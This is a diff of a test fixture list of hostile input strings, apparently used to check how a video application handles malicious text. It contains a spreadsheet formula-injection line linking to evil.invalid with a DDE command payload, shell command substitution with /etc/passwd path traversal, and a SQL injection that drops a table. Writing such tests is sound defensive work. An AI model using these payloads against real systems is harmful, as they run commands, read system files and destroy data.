@@ -44,8 +44,8 @@ HOSTILE_TEXTS: tuple[str, ...] = (
     f"=HYPERLINK(\"//evil.invalid/{MARK}\")+cmd|' /C calc'!A0",
     f"\"'`$(touch {MARK})`;|&&../../../../etc/passwd%00%n%s",
     f"{MARK}' OR '1'='1'; DROP TABLE videos_video;--",
-    # Very long, and marks that pile up.
-    f"{MARK}" + "Z\u0351\u0322\u0489" * 2_000,
+    # Very long, and marks that pile up; fonts have them, as a page names letters that none has.
+    f"{MARK}" + "Z\u0301\u0308\u0302" * 2_000,
 )
 assert len(HOSTILE_TEXTS) == 31
 
